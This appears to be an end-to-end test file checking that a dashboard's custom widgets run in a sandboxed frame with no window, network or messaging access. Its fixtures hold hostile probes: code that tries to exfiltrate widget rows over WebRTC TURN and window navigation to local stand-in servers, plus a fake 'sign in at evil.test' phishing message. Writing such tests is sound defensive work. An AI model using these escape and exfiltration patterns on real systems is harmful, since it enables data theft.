"""Custom widgets in a real browser: a checked component renders its props inside the sandboxed
frame, and a hostile one (hand-compiled, so no checker rule stops it) reaches nothing.

Widgets are written straight to the database, as in test_pages.py.
"""
from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.conftest import service_missing
from tests.e2e.test_pages import add_widget, open_dashboard
from widgets.models import Dashboard
from widgets.services.tsx import tsx_checker_available, tsx_compile

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SPEC = {
    "kind": "custom", "title": "Claims by region, as bars",
    "metric": {"key": "claim_count", "name": "Claim count", "unit": "count"},
    "dimensions": ["region"], "filters": [], "time_window": {"kind": "last", "n": 90, "unit": "day"},
    "grain": None, "labels": {"region": "Region"}, "visual": "horizontal bars",
}
RESULT = {"columns": ["region", "claim_count"], "rows": [["Midwest", 4210], ["South", 5342]], "truncated": False}

PROPS_TS = """\
interface Row { region: string | null; value: number | null }
interface Props {
  title: string;
  metric: { key: string; name: string; unit: "count" | "currency" | "days" | "percent" };
  dimensions: { key: string; label: string }[];
  rows: Row[];
  truncated: boolean;
}
"""

BARS_TSX = """\
function Widget(props: Props) {
  const max = Math.max(1, ...props.rows.map((r) => r.value ?? 0));
  return (
    <div style={{ height: 300 }}>
      <p data-testid="metric">{props.metric.name}</p>
      {props.rows.map((r, i) => (
        <div key={i} data-testid="bar" style={{ width: `${((r.value ?? 0) / max) * 100}%` }}>
          {r.region ?? "unknown"}: {r.value}
        </div>
      ))}
    </div>
  );
}
"""

# Written by hand, as if the checker had been bypassed: it looks for every way out a component had
# when it ran in the frame's window, and writes what it found into its own output.
PROBE_JS = """
function Widget(props) {
  const g = (0, eval)("this");
  const found = {};
  for (const name of ["window", "self", "document", "parent", "top", "location", "navigator", "fetch",
      "XMLHttpRequest", "WebSocket", "postMessage", "importScripts", "WebAssembly", "setTimeout",
      "requestAnimationFrame", "RTCPeerConnection", "Worker", "localStorage"]) {
    found[name] = typeof g[name];
  }
  found.ctor = typeof (function () {}).constructor("return this.document")();
  let rtc = "none";
  try { new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:TURN_PORT?transport=udp",
    username: JSON.stringify(props.rows), credential: "x" }] }); rtc = "made"; } catch (e) { rtc = e.name; }
  found.rtc = rtc;
  return React.createElement("ul", null, Object.keys(found).sort().map((key) =>
    React.createElement("li", { key, "data-testid": "probe-" + key }, found[key])));
}
"""


@pytest.fixture
def udp_listener() -> Iterator[socket.socket]:
    """A UDP socket on 127.0.0.1 standing in for an attacker's TURN server."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(3)
    try:
        yield listener
    finally:
        listener.close()


@pytest.fixture
def outside_server() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on another origin than the live server; yields its URL and the paths it was asked for."""
    hits: list[str] = []

    class Record(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<p>outside</p>")

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(autouse=True)
def _offline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BUILDER_MODE", "offline")


@pytest.fixture
def board(django_user_model: Any) -> Dashboard:
    from tests.e2e.test_pages import PASSWORD

    user = django_user_model.objects.create_user(username="erin", password=PASSWORD)
    return Dashboard.objects.create(owner=user, name="Custom widgets")


def custom_card(page: Page) -> Any:
    return page.locator("[data-testid=widget-card][data-kind=custom]")


def test_a_checked_component_renders_its_props_in_the_sandboxed_frame(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    reason = tsx_checker_available()
    if reason:
        service_missing(f"TSX checker unavailable: {reason}")
    add_widget(board, spec=SPEC, result=RESULT, component_js=tsx_compile(tsx=BARS_TSX, props_ts=PROPS_TS).js)
    open_dashboard(browser_page, live_server.url, board)

    frame_element = custom_card(browser_page).get_by_test_id("custom-frame")
    expect(frame_element).to_have_attribute("sandbox", "allow-scripts")
    frame = browser_page.frame_locator("[data-testid=custom-frame]")
    expect(frame.get_by_test_id("metric")).to_have_text("Claim count")
    expect(frame.get_by_test_id("bar")).to_have_text(["Midwest: 4210", "South: 5342"])
    # The frame reported its content's height (a 300 px box, padding and a margin) and was resized.
    expect(frame_element).not_to_have_attribute("height", "80")
    assert 300 <= int(frame_element.get_attribute("height") or 0) <= 340


def test_a_component_runs_with_no_window_no_network_and_no_messages(
    browser_page: Page, live_server: Any, board: Dashboard, udp_listener: socket.socket
) -> None:
    port = udp_listener.getsockname()[1]
    add_widget(board, spec=SPEC, result=RESULT, component_js=PROBE_JS.replace("TURN_PORT", str(port)))
    open_dashboard(browser_page, live_server.url, board)

    frame = browser_page.frame_locator("[data-testid=custom-frame]")
    expect(frame.get_by_test_id("probe-rtc")).to_have_text("ReferenceError")
    for name in ("window", "self", "document", "parent", "top", "location", "navigator", "fetch", "XMLHttpRequest",
                 "WebSocket", "postMessage", "importScripts", "WebAssembly", "setTimeout", "requestAnimationFrame",
                 "RTCPeerConnection", "Worker", "localStorage", "ctor"):
        expect(frame.get_by_test_id(f"probe-{name}")).to_have_text("undefined")
    with pytest.raises(TimeoutError):
        packet, sender = udp_listener.recvfrom(4096)
        pytest.fail(f"the component sent {len(packet)} bytes over UDP from {sender}")
    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_count(0)


def test_a_component_that_throws_shows_its_own_words_apart_with_a_retry(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    js = 'function Widget(props) { throw new Error("Your session has expired, sign in at evil.test " + props.title); }'
    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
    open_dashboard(browser_page, live_server.url, board)

    card = custom_card(browser_page)
    expect(card.get_by_test_id("custom-error-reason")).to_have_text("The custom component stopped with an error.")
    detail = card.get_by_test_id("custom-error-detail")
    expect(detail.locator("figcaption")).to_have_text(
        "Its own error text, written by the generated code (not a message from Widget Builder):")
    expect(detail.locator("blockquote")).to_have_text("Your session has expired, sign in at evil.test Claims by region, as bars")
    # The product's alert holds our words only; the component's text is outside it.
    expect(card.get_by_role("alert")).to_have_count(1)
    expect(card.get_by_role("alert")).not_to_contain_text("session has expired")
    expect(card.get_by_test_id("custom-frame")).to_have_count(0)
    card.get_by_test_id("custom-retry").focus()
    browser_page.keyboard.press("Enter")  # runs it again in a new frame, which fails the same way
    expect(card.get_by_test_id("custom-error-detail")).to_contain_text("Your session has expired")
    # The keyboard's place is kept: on the new Retry, not back at the page's start.
    expect(card.get_by_test_id("custom-retry")).to_be_focused()


def test_a_frame_that_never_starts_says_so_with_a_retry(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    """The sandbox page or its script failing to load left the widget blank for good."""
    add_widget(board, spec=SPEC, result=RESULT, component_js='function Widget() { return "hi"; }')
    browser_page.clock.install()
    browser_page.route("**/widgets/sandbox/*", lambda route: route.fulfill(status=200, body="", content_type="text/html"))
    open_dashboard(browser_page, live_server.url, board)
    card = custom_card(browser_page)
    expect(card.get_by_test_id("custom-frame")).to_have_count(1)
    browser_page.clock.run_for(31_000)
    expect(card.get_by_test_id("custom-error-reason")).to_have_text(
        "The custom component could not be started: its sandbox did not load.")
    expect(card.get_by_test_id("custom-retry")).to_be_visible()


def test_a_component_that_reaches_for_the_window_stops_with_its_error(
    browser_page: Page, live_server: Any, board: Dashboard, outside_server: tuple[str, list[str]]
) -> None:
    url, hits = outside_server
    js = f'function Widget(props) {{ (0, eval)("this").location.href = "{url}/leak?" + props.rows.length; return null; }}'
    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
    open_dashboard(browser_page, live_server.url, board)

    expect(custom_card(browser_page).get_by_test_id("custom-error-detail")).to_contain_text("undefined")
    assert hits == []


def test_a_ready_custom_widget_whose_rows_do_not_fit_says_why_without_a_retry_button(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    # Ready and live, so the retry API would refuse it: the owner gets the reason, not a dead button.
    misfit = {"columns": ["region", "state", "claim_count"], "rows": [["Midwest", "OH", 4210]], "truncated": False}
    add_widget(board, spec=SPEC, result=misfit, component_js=tsx_free_component())
    open_dashboard(browser_page, live_server.url, board)

    card = custom_card(browser_page)
    expect(card.get_by_test_id("widget-failure")).to_contain_text("The query returned 3 column(s)")
    expect(card.get_by_test_id("widget-retry")).to_have_count(0)


OFFLINE_CASES = [
    # (spec changes, result, text the component shows)
    ({}, {"columns": ["region", "claim_count"], "rows": [["Midwest", 4210], ["South", 5342]], "truncated": False},
     "South"),
    ({"dimensions": [], "labels": {}, "grain": "month", "visual": "columns"},
     {"columns": ["period", "claim_count"], "rows": [["2026-01-01", 10], ["2026-02-01", 12]], "truncated": False},
     "latest month"),
    ({"dimensions": [], "labels": {}, "grain": "month", "visual": "sparkline"},
     {"columns": ["period", "claim_count"], "rows": [["2026-01-01", 10], ["2026-02-01", 12]], "truncated": False},
     "latest month"),
    ({"dimensions": [], "labels": {}, "visual": "big number"},
     {"columns": ["claim_count"], "rows": [[9552]], "truncated": False}, "9552"),
    ({"dimensions": [], "labels": {}, "visual": "gauge", "metric": {"key": "rate", "name": "Rate", "unit": "percent"}},
     {"columns": ["rate"], "rows": [[0.42]], "truncated": False}, "42.0%"),
    ({"grain": "month", "visual": "a heatmap of regions by month"},
     {"columns": ["period", "region", "claim_count"], "truncated": False,
      "rows": [["2026-01-01", "Midwest", 10], ["2026-01-01", "South", 3], ["2026-02-01", "Midwest", 12]]},
     "2026-02"),
]
HEATMAP = len(OFFLINE_CASES) - 1


def test_the_offline_components_render_in_the_vm(browser_page: Page, live_server: Any, board: Dashboard) -> None:
    from backend.llm.types import OfflineQuery
    from widgets.services import custom_offline
    from widgets.services.custom import props_interface

    reason = tsx_checker_available()
    if reason:
        service_missing(f"TSX checker unavailable: {reason}")
    for n, (changes, result, _) in enumerate(OFFLINE_CASES):
        spec = {**SPEC, "time_window": {"kind": "all"}, **changes, "title": f"Offline {n}"}
        tsx = custom_offline.answer(OfflineQuery(context={}, prompt={"spec": spec, "request": ""}, corrections=[]))["tsx"]
        add_widget(board, spec=spec, result=result, component_js=tsx_compile(tsx=tsx, props_ts=props_interface(spec)).js)
    open_dashboard(browser_page, live_server.url, board)

    frames = browser_page.locator("[data-testid=custom-frame]")
    expect(frames).to_have_count(len(OFFLINE_CASES))
    for n, (_, _, text) in enumerate(OFFLINE_CASES):
        frame = browser_page.frame_locator(f"[data-testid=custom-frame][title='Offline {n}']")
        expect(frame.locator("#root")).to_contain_text(f"Offline {n}")
        expect(frame.locator("#root")).to_contain_text(text)
    expect(browser_page.get_by_test_id("custom-error")).to_have_count(0)
    # The charts' SVG came through the allowlist.
    expect(browser_page.frame_locator("[title='Offline 1']").locator("svg rect")).to_have_count(2)
    expect(browser_page.frame_locator("[title='Offline 2']").locator("svg polyline")).to_have_count(1)
    # The heatmap: a header row and a row per region, a cell per month (South has none in February: a gap).
    heat = browser_page.frame_locator(f"[title='Offline {HEATMAP}']").locator("#root")
    expect(heat.locator("[title='Midwest, 2026-02: 12']")).to_have_count(1)
    expect(heat.locator("[title='South, 2026-02: –']")).to_have_count(1)


# Logs every event it is given, in order, as "type:key".
EVENT_LOG_JS = """
function Widget(props) {
  const [log, setLog] = React.useState([]);
  const note = (e) => setLog((old) => old.concat(e.type + ":" + e.key));
  const row = (key) => React.createElement("div", { key, "data-testid": "row-" + key, style: { padding: 8 },
    onMouseEnter: note, onMouseLeave: note, onClick: note, onDoubleClick: note }, key);
  return React.createElement("div", null, row("a"), row("b"),
    React.createElement("p", { "data-testid": "log" }, log.length ? log.join(" ") : "none"));
}
"""


def test_events_that_arrive_while_the_component_is_busy_all_reach_it_in_order(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    """The first event goes to the Worker; the ones fired meanwhile (here in the same task, so the Worker
    cannot have answered) wait their turn. Only the last of them used to be kept: a click right after
    entering a row lost the enter, a leave right after a click lost the click."""
    add_widget(board, spec=SPEC, result=RESULT, component_js=EVENT_LOG_JS)
    open_dashboard(browser_page, live_server.url, board)
    frame = browser_page.frame_locator("[data-testid=custom-frame]")
    expect(frame.get_by_test_id("log")).to_have_text("none")

    frame.locator("body").evaluate("""() => {
      const fire = (key, type) => document.querySelector(`[data-key="${key}"]`)
        .dispatchEvent(new MouseEvent(type, { bubbles: false }));
      fire("a", "mouseenter"); fire("a", "click"); fire("a", "mouseleave");
      fire("b", "mouseenter"); fire("b", "click"); fire("b", "dblclick"); fire("b", "mouseleave");
    }""")

    expect(frame.get_by_test_id("log")).to_have_text(
        "mouseenter:a click:a mouseleave:a mouseenter:b click:b dblclick:b mouseleave:b")
    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_count(0)


def tsx_free_component() -> str:
    return "function Widget(props) { return React.createElement('p', null, props.title); }"


def test_a_custom_widget_without_a_component_shows_the_failure_view(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    add_widget(board, spec=SPEC, result={}, component_js="", result_at=None, source="llm_unavailable",
               source_reason="The component did not compile.")
    open_dashboard(browser_page, live_server.url, board)

    card = custom_card(browser_page)
    expect(card.get_by_test_id("widget-failure")).to_contain_text("The component did not compile.")
    expect(card.get_by_test_id("custom-frame")).to_have_count(0)
